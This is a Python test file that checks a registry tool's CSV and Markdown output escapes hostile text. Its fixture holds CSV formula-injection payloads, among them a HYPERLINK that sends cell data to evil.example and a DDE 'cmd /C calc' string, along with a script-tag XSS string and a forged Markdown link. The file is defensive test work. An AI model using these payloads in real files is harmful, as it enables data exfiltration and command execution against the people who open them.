"""Text from a shared registry cannot become a spreadsheet formula, a forged Markdown line or
raw HTML in what cocwatch prints. Every registry here is synthetic test data."""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Callable
from pathlib import Path

import pytest
from typer.testing import Result

from cocwatch.render.tabular import csv_cell, md_code, md_inline

HOSTILE = """\
version: 1
national:
  targets:
    - {id: t-2021, title: "Synthetic target", cohort: all, percent: 51, due: 2021-03-31,
       set_on: 2019-01-07, source: {url: https://example.org/t}}
trusts:
  - id: evil
    ods: "@XX1"
    name: '=HYPERLINK("https://evil.example/?x="&A1,"Click") <script>alert(1)</script> | [x](https://evil.example)'
    region: "+cmd|' /C calc'!A0"
    lmns: "-2+3"
    figures:
      - cohort: all
        percent: 17.2
        as_of: 2024-03-31
        source: {url: https://example.org/msds, title: "@SUM(1+1)*cmd"}
"""

LIVE_LINK = re.compile(r"(?<!\\)\]\(")
NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)")


@pytest.fixture
def hostile(write_registry: Callable[[str], Path]) -> Path:
    return write_registry(HOSTILE)


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


@pytest.mark.parametrize(
    "args",
    [["trusts", "--format", "csv"], ["check", "--all", "--format", "csv", "--fail-on", "never"]],
)
def test_csv_cells_that_would_be_formulas_are_neutralised(
    run: Callable[..., Result], hostile: Path, args: list[str]
) -> None:
    result = run("-r", str(hostile), *args)
    assert result.exit_code == 0, result.stderr
    cells = _cells(result.stdout)
    assert any(c.startswith("'=HYPERLINK(") for c in cells)
    assert "'+cmd|' /C calc'!A0" in cells
    for cell in cells:
        if cell[:1] in {"=", "+", "-", "@", "\t", "\r"}:
            assert NUMBER.fullmatch(cell), f"formula left live: {cell!r}"


def test_negative_numbers_stay_numbers_in_csv(run: Callable[..., Result], hostile: Path) -> None:
    result = run("-r", str(hostile), "check", "--all", "--format", "csv", "--fail-on", "never")
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    assert rows[0]["gap"].startswith("-") and NUMBER.fullmatch(rows[0]["gap"])


@pytest.mark.parametrize(
    ("text", "safe"),
    [
        ("=1+1", "'=1+1"),
        ("+44 20 7946 0000", "'+44 20 7946 0000"),
        ("-cmd", "'-cmd"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-3.5", "-3.5"),
        ("+2", "+2"),
        ("plain", "plain"),
        ("", ""),
    ],
)
def test_csv_cell_follows_the_owasp_rule(text: str, safe: str) -> None:
    assert csv_cell(text) == safe


@pytest.mark.parametrize("field", ["name", "region", "lmns"])
def test_a_line_break_in_a_one_line_field_is_refused_with_its_line(
    run: Callable[..., Result], write_registry: Callable[[str], Path], field: str
) -> None:
    text = HOSTILE.replace('lmns: "-2+3"', "lmns: ok")
    forged = f'    {field}: "Real\\n## Forged"'
    text = re.sub(rf"^    {field}: .*$", lambda _: forged, text, flags=re.M)
    result = run("-r", str(write_registry(text)), "validate")
    assert result.exit_code == 3, result.stdout + result.stderr
    output = result.stdout + result.stderr
    assert f"trusts[1].{field}: must be on one line" in output
    assert re.search(r"trusts\.yaml:\d+:\d+ \(trust 'evil'\)", output)


def test_notes_and_addresses_may_still_span_lines(
    run: Callable[..., Result], write_registry: Callable[[str], Path]
) -> None:
    text = HOSTILE.replace(
        "    lmns:",
        '    address: "1 High St\\nAnytown"\n    notes: |\n      two\n      lines\n    lmns:',
    )
    assert run("-r", str(write_registry(text)), "validate").exit_code == 0


def _unescaped_pipes(line: str) -> int:
    return len(re.findall(r"(?<!\\)\|", line))


def test_markdown_check_output_escapes_registry_text(
    run: Callable[..., Result], hostile: Path
) -> None:
    result = run("-r", str(hostile), "check", "--all", "--format", "markdown", "--fail-on", "never")
    assert result.exit_code == 0, result.stderr
    out = result.stdout
    assert "<script>" not in out and not LIVE_LINK.search(out)
    table = [line for line in out.splitlines() if line.startswith("| ")]
    assert {_unescaped_pipes(line) for line in table} == {8}
    assert r"\<script\>" in out


@pytest.mark.parametrize(
    "args", [["show", "evil", "--format", "markdown"], ["trusts", "--format", "markdown"]]
)
def test_markdown_listings_escape_registry_text(
    run: Callable[..., Result], hostile: Path, args: list[str]
) -> None:
    result = run("-r", str(hostile), *args)
    assert result.exit_code == 0, result.stderr
    assert "<script>" not in result.stdout and not LIVE_LINK.search(result.stdout)


def test_md_helpers() -> None:
    assert md_inline("a\nb | <i>*c*</i> [d](e)") == r"a b \| \<i\>\*c\*\</i\> \[d\](e)"
    assert md_code("a`b") == "``a`b``"
    assert md_code("`x") == "`` `x ``"
